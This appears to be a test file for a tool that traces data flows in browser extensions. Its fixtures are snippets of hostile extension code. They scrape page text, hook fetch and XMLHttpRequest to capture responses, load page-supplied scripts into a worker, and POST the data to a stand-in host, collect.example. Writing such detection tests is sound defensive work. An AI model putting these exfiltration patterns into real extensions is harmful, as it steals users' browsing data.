import { describe, expect, it } from 'vitest';
import { factsOf } from '../testing/examples.ts';
import { flowsOf } from '../extension/flowsOf.ts';
import { type Parts, sample } from '../testing/sample.ts';

/** Pairs of source and sink that leave the browser. */
const sent = async (parts: Parts): Promise<string[]> =>
  (await factsOf(sample(parts)))
    .whole(flowsOf)
    .flows.flatMap(({ source, sink }) =>
      sink.kind === 'network' && !source.kind.startsWith('page-m') ? [source.label] : [],
    );

const SEND = 'fetch("https://collect.example/r", { method: "POST", body: JSON.stringify(text) })';
const BACKGROUND = `chrome.runtime.onMessage.addListener(({ text }) => { ${SEND}; });`;
const PASSED = 'data passing through a replaced page function';
const PAGE = 'content of the web page';

describe('what scripts of one page tell each other', () => {
  it('is followed from the world of the page to that of content scripts, and on', async () => {
    const main = 'setInterval(() => window.postMessage({ type: "a", text: document.body.innerText }, "*"), 3000);';
    const relay = 'if (e.data.type === "a") chrome.runtime.sendMessage({ text: e.data.text });';
    const listens = `window.addEventListener("message", (e) => { ${relay} });`;
    expect(await sent({ main, content: listens, background: BACKGROUND })).toContain(PAGE);
    const sets = `window.onmessage = (e) => { ${relay} };`;
    expect(await sent({ main, content: sets, background: BACKGROUND })).toContain(PAGE);
    expect(
      await sent({ main, content: listens.replace('"a"', '"other"'), background: BACKGROUND }),
      'another type of message is handled there',
    ).toEqual([]);
  });

  it('is followed through events of the extension’s own making', async () => {
    const main =
      'setInterval(() => document.dispatchEvent(new CustomEvent("zz", { detail: { text: document.body.innerText } })), 9);';
    const heard = (name: string) => `document.addEventListener("${name}", ({ detail: { text } }) => { ${SEND}; });`;
    expect(await sent({ main, content: heard('zz') })).toContain(PAGE);
    expect(await sent({ main, content: heard('other') })).toEqual([]);
  });
});

describe('messages to a worker', () => {
  const worker = 'onmessage = ({ data }) => { if (data[0] === "set") importScripts(data[1]); };';
  const started = 'const one = new Worker(chrome.runtime.getURL("parts/worker.js"));';
  const told = async (content: string, path = 'parts/worker.js'): Promise<number> =>
    (await factsOf(sample({ content, files: { [path]: worker } }))).whole(flowsOf).flows.length;
  it('come from who started it', async () => {
    expect(await told(`${started} one.postMessage(["set", chrome.runtime.getURL("a.js")]);`)).toBe(0);
  });
  it('are the page’s where who started it hands them on', async () => {
    const relay = 'window.addEventListener("message", ({ data }) => one.postMessage(["set", data.code]));';
    expect(await told(started + relay)).toBeGreaterThan(0);
  });
});

describe('functions that a page talks by', () => {
  const relay = 'window.addEventListener("message", (e) => chrome.runtime.sendMessage(e.data));';
  it('tell whoever replaces them what the page asks and is answered', async () => {
    const main =
      'const real = window.fetch; window.fetch = async function (...a) { const r = await real.apply(this, a); window.postMessage({ text: await r.clone().text() }, "*"); return r; };';
    expect(await sent({ main, content: relay, background: BACKGROUND })).toContain(PASSED);
    const xhr =
      'const send = XMLHttpRequest.prototype.send; XMLHttpRequest.prototype.send = function (b) { this.addEventListener("load", () => window.postMessage({ text: this.responseText }, "*")); return send.call(this, b); };';
    expect(await sent({ main: xhr, content: relay, background: BACKGROUND })).toContain(PASSED);
    expect(
      await sent({ main: `XMLHttpRequest.prototype.send = function () { const text = arguments[0]; ${SEND}; };` }),
    ).toContain(PASSED);
  });

  it('hand on to the real one what is the page’s own request', async () => {
    const main =
      'const real = window.fetch; window.fetch = function (url, options) { if (/ads/.test(url)) return Promise.reject(new Error()); return real(url, options); };';
    expect(await sent({ main })).toEqual([]);
  });
});
